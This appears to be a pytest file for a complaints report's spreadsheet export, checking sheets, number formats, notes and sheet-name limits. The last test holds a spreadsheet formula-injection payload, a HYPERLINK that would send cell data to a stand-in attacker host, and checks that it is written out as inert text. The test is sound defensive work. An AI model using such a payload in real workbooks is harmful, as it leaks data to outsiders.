"""The report as a spreadsheet, read back with openpyxl: a contents sheet, a
sheet a table with its values as numbers, money and percentage formats, the
notes below, and the warnings."""

from io import BytesIO

import pytest
from openpyxl import load_workbook

from complaints.reports.render.xlsx import HEADER_ROW, render_xlsx, sheet_names
from complaints.reports.data import Report, Table
from tests.reports.sample_report import sample_report


@pytest.fixture(scope="module")
def report():
    return sample_report(edition="published")


@pytest.fixture(scope="module")
def workbook(report):
    return load_workbook(BytesIO(render_xlsx(report)))


def _row(sheet, n):
    return [cell.value for cell in sheet[n]]


def test_contents_then_a_sheet_a_table_and_no_warnings(workbook, report):
    # The problems to put right are listed on the staff pages, never in the document.
    assert workbook.sheetnames == ["Contents", *[t.id for t in report.tables]]
    contents = workbook["Contents"]
    assert contents["A1"].value == report.title
    listed = [(contents.cell(r, 1).value, contents.cell(r, 2).value)
              for r in range(HEADER_ROW + 1, HEADER_ROW + 1 + len(report.tables))]
    assert listed == [(t.id, t.title) for t in report.tables]
    assert contents.cell(HEADER_ROW + 1, 1).hyperlink.location == "'ombudsman'!A1"


def test_every_value_is_the_reports_own(workbook, report):
    for table in report.tables:
        sheet = workbook[table.id]
        assert sheet["A1"].value == table.title
        assert _row(sheet, HEADER_ROW)[1:] == table.columns
        rows = table.rows + ([table.total] if table.total else [])
        for n, row in enumerate(rows, HEADER_ROW + 1):
            values = _row(sheet, n)
            expected = [("[c]" if v is None else ("" if v == "" else v)) for v in row.values]
            assert values[0] == row.label
            assert [v if v is not None else "" for v in values[1:]] == [
                float(v) if hasattr(v, "as_tuple") else v for v in expected], (table.id, row.label)


def test_numbers_are_numbers_with_formats(workbook):
    teams = workbook["teams"]
    assert teams.cell(HEADER_ROW + 1, 2).value == 33
    assert teams.cell(HEADER_ROW + 1, 2).number_format == "#,##0"
    times = workbook["response_times"]
    assert times.cell(HEADER_ROW + 1, 3).value == 30.4
    assert times.cell(HEADER_ROW + 1, 3).number_format == "0.0"
    money = workbook["expenditure"]
    assert money.cell(HEADER_ROW + 2, 2).value == 14413
    assert money.cell(HEADER_ROW + 2, 2).number_format == '"£"#,##0'
    averages = workbook["average_days"]
    assert averages.cell(HEADER_ROW + 1, 2).value == 14.6


def test_notes_are_below_the_table(workbook, report):
    sheet = workbook["teams"]
    below = HEADER_ROW + len(report.table("teams").rows) + 1 + 2  # rows, total, a blank row
    assert sheet.cell(below, 1).value == "Suppressed: 1 to 5 (Fostering; Adopt London)"
    assert workbook["themes"].cell(HEADER_ROW + 6 + 2, 1).value == "A complaint may raise more than one theme."


def test_no_warnings_sheet_without_warnings(report):
    report = sample_report()
    report.warnings = []

    assert "Warnings" not in load_workbook(BytesIO(render_xlsx(report))).sheetnames


def test_sheet_names_keep_to_31_characters_and_stay_unique():
    long = "a_table_id_that_is_much_longer_than_excel_allows"
    report = Report("2021-22", "T", "internal", [], [
        Table(long, "One", "s", ["2021-22"], []), Table(long + "_too", "Two", "s", ["2021-22"], [])], [])

    names = sheet_names(report)

    assert all(len(name) <= 31 for name in names.values())
    assert len(set(names.values())) == 2


def test_text_that_looks_like_a_formula_is_written_as_text(db):
    """An action's task typed as "=HYPERLINK(...)" is a string in the workbook, not a live formula."""
    from datetime import date

    from complaints.records.models import Action
    from complaints.reports.annual import build

    task = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open the plan")'
    Action.objects.create(number=1, task=task, owners="=1+1", starts_on=date(2022, 4, 1),
                          intended_outcome="Better letters", target_on=date(2022, 9, 30))

    sheet = load_workbook(BytesIO(render_xlsx(build("2022-23"))))["actions"]

    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row if cell.value in (task, "=1+1")}
    assert set(cells) == {task, "=1+1"}
    assert all(cell.data_type == "s" for cell in cells.values())
